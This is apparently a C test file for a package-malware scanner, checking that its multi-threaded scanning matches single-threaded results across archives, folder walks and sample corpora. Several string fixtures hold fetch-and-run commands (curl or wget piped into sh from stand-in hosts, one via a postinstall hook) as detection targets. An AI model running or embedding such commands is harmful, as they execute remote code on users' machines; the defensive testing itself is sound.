/* The scanner's worker pool: the files of a package scanned on several
 * threads give exactly the result of scanning them one after the other
 * (the same hits in the same order, binaries counted from the same first
 * file), for archives (scanner_listing) and for folder walks (scanner_file
 * and scanner_problem interleaved).  Also run under ThreadSanitizer. */
#include <criterion/criterion.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "depvet/analysis/archive.h"
#include "depvet/analysis/hex_tarball.h"
#include "depvet/analysis/rules.h"
#include "depvet/analysis/scanner.h"
#include "depvet/core/fileio.h"
#include "depvet/core/strbuf.h"
#include "helpers.h"
#include "rules_helper.h"

struct twins {
    struct scanner *one, *pool;
    size_t compared, hits;
};

static void twins_init(struct twins *t, const struct rule_set *rs)
{
    t->one = scanner_new(rs, ECO_UNKNOWN);
    t->pool = scanner_new(rs, ECO_UNKNOWN);
    scanner_set_threads(t->one, 1, 0);
    /* Three threads on any machine, from the first byte. */
    scanner_set_threads(t->pool, 3, 0);
    scanner_set_max_hits(t->one, 0);
    scanner_set_max_hits(t->pool, 0);
    t->compared = t->hits = 0;
}

static void results_equal(const struct scan_result *a, const struct scan_result *b,
                          const char *what)
{
    struct strbuf sa = STRBUF_INIT, sb = STRBUF_INIT;
    scanner_result_serialize(a, &sa);
    scanner_result_serialize(b, &sb);
    cr_expect_str_eq(strbuf_str(&sb), strbuf_str(&sa), "%s: the pool's result differs", what);
    strbuf_fini(&sa);
    strbuf_fini(&sb);
}

static void twins_compare(struct twins *t, const char *what)
{
    struct scan_result *a = scanner_finish(t->one), *b = scanner_finish(t->pool);
    results_equal(a, b, what);
    t->compared++;
    t->hits += a->n_hits;
    scanner_result_free(a);
    scanner_result_free(b);
}

static void twins_free(struct twins *t)
{
    scanner_free(t->one);
    scanner_free(t->pool);
}

static void archive_twins(struct twins *t, const char *path, const char *buf, size_t len)
{
    struct archive_listing *l;
    struct hex_tarball *ht;
    const struct archive_listing *use = test_package_files(path, buf, len, &l, &ht);
    if (!use)
        return;
    scanner_listing(t->one, use);
    scanner_listing(t->pool, use);
    twins_compare(t, path);
    hex_tarball_free(ht);
    archive_listing_free(l);
}

/* Archives each as one package; with `folder`, every other file goes
 * into one package of all of them, with a problem after every seventh
 * and an unread file after every eleventh, as a folder walk hands them. */
static void walk(struct twins *t, const char *dir, bool folder, unsigned depth)
{
    DIR *dh = opendir(dir);
    if (!dh)
        return;
    unsigned n = 0;
    for (struct dirent *e; depth < 12 && (e = readdir(dh));) {
        char path[4096];
        struct stat sb;
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        if (e->d_name[0] == '.' || lstat(path, &sb) != 0)
            continue;
        if (S_ISDIR(sb.st_mode)) {
            walk(t, path, folder, depth + 1);
            continue;
        }
        struct diag d;
        diag_clear(&d);
        size_t len;
        char *buf = S_ISREG(sb.st_mode) ? file_read(path, 64u << 20, &len, &d) : NULL;
        if (buf && test_archive_name(e->d_name) && !folder)
            archive_twins(t, path, buf, len);
        if (buf && !test_archive_name(e->d_name) && folder) {
            scanner_file(t->one, path, buf, len);
            scanner_file(t->pool, path, buf, len);
            struct archive_problem p = {ARCHIVE_PROBLEM_SYMLINK, path, "a problem in between"};
            if (++n % 7 == 0) {
                scanner_problem(t->one, &p);
                scanner_problem(t->pool, &p);
            }
            if (n % 11 == 0) {
                scanner_file(t->one, path, NULL, 0);
                scanner_file(t->pool, path, NULL, 0);
            }
        }
        free(buf);
    }
    closedir(dh);
}

static void walk_src(struct twins *t, const char *sub, bool folder)
{
    char dir[4096];
    snprintf(dir, sizeof(dir), "%s/%s", test_srcdir(), sub);
    walk(t, dir, folder, 0);
}

Test(scanpool, archives_give_the_single_thread_result, .timeout = 600)
{
    struct rule_set *rs = rules_shipped();
    struct twins t;
    twins_init(&t, rs);
    walk_src(&t, "examples", false);
    walk_src(&t, "tests/fixtures", false);
    cr_expect_gt(t.compared, 50, "archives compared: %zu", t.compared);
    cr_expect_gt(t.hits, 5, "hits compared: %zu", t.hits);
    twins_free(&t);
    rules_free(rs);
}

Test(scanpool, a_folder_walk_gives_the_single_thread_result, .timeout = 600)
{
    struct rule_set *rs = rules_shipped();
    struct twins t;
    twins_init(&t, rs);
    walk_src(&t, "tests/fixtures", true);
    walk_src(&t, "rules", true);
    twins_compare(&t, "fixtures and rules as one folder");
    cr_expect_gt(t.hits, 3, "hits compared: %zu", t.hits);
    twins_free(&t);
    rules_free(rs);
}

/* A folder's package.json may come after files went to the pool:
 * the files it names are install-time code from then on, as without it. */
Test(scanpool, package_json_after_pooled_files)
{
    struct rule_set *rs = rules_shipped();
    struct twins t;
    twins_init(&t, rs);
    static const char js[] = "const cp = require('child_process');\n"
                             "cp.exec('curl http://x.example/a | sh');\n";
    static const char pj[] = "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"node b.js\"}}";
    struct scanner *both[2] = {t.one, t.pool};
    for (unsigned i = 0; i < 2; i++) {
        scanner_file(both[i], "a.js", js, strlen(js));
        scanner_manifest(both[i], "package.json", pj, strlen(pj));
        scanner_file(both[i], "b.js", js, strlen(js));
        scanner_file(both[i], "package.json", pj, strlen(pj));
    }
    twins_compare(&t, "package.json between files");
    cr_expect_gt(t.hits, 1);
    twins_free(&t);
    rules_free(rs);
}

/* The first binary of a rule is the hit and names the file; two files of
 * one path (an archive may hold both) keep their order: the same as one
 * thread however the workers finish. */
Test(scanpool, first_binary_and_duplicate_paths_keep_their_order)
{
    struct rule_set *rs = rules_shipped();
    struct twins t;
    twins_init(&t, rs);
    static const char beam[] = "FOR1\0\0\0\x10" "BEAMAtU8";
    static const char evil[] = "import os\nos.system('curl http://1.2.3.4/x | sh')\n";
    static const char other[] = "import os\nos.system('wget -q -O- http://1.2.3.4/y | sh')\n";
    struct strbuf big = STRBUF_INIT;
    for (unsigned i = 0; i < 20000; i++)
        strbuf_puts(&big, "x = 1\n");   /* keeps the first worker busy */
    struct scanner *both[2] = {t.one, t.pool};
    for (unsigned k = 0; k < 2; k++) {
        scanner_file(both[k], "lib/big.ex", big.buf, big.len);
        for (unsigned i = 0; i < 6; i++) {
            char path[32];
            snprintf(path, sizeof(path), "ebin/m%u.beam", i);
            scanner_file(both[k], path, beam, sizeof(beam) - 1);
            scanner_file(both[k], "lib/run.exs", i % 2 ? evil : other,
                         strlen(i % 2 ? evil : other));
        }
    }
    struct scan_result *a = scanner_finish(t.one), *b = scanner_finish(t.pool);
    size_t beams = 0;
    for (size_t i = 0; i < a->n_hits; i++)
        if (strcmp(a->hits[i].rule, "beam-binary-hex") == 0) {
            beams++;
            cr_expect_str_eq(a->hits[i].file, "ebin/m0.beam");
        }
    cr_expect_eq(beams, 1, "one beam hit for six files: %zu", beams);
    results_equal(a, b, "binaries and duplicate paths");
    strbuf_fini(&big);
    scanner_result_free(a);
    scanner_result_free(b);
    twins_free(&t);
    rules_free(rs);
}

/* Real packages, when the shared corpus is here (never copied in). */
Test(scanpool, the_corpus_gives_the_single_thread_result, .timeout = 900)
{
    char dir[4096];
    if (!test_corpus("tarballs", dir, sizeof(dir)))
        cr_skip_test("no corpus at %s", dir);
    struct rule_set *rs = rules_shipped();
    struct twins t;
    twins_init(&t, rs);
    walk(&t, dir, false, 0);
    cr_log_info("corpus: %zu archives, %zu hits compared", t.compared, t.hits);
    /* GuardDog's malicious samples as one folder: many hits per file. */
    size_t before = t.hits;
    if (test_corpus("scanner/guarddog-tests", dir, sizeof(dir))) {
        walk(&t, dir, true, 0);
        twins_compare(&t, "guarddog-tests as one folder");
    }
    cr_log_info("guarddog-tests: %zu hits compared", t.hits - before);
    twins_free(&t);
    rules_free(rs);
}
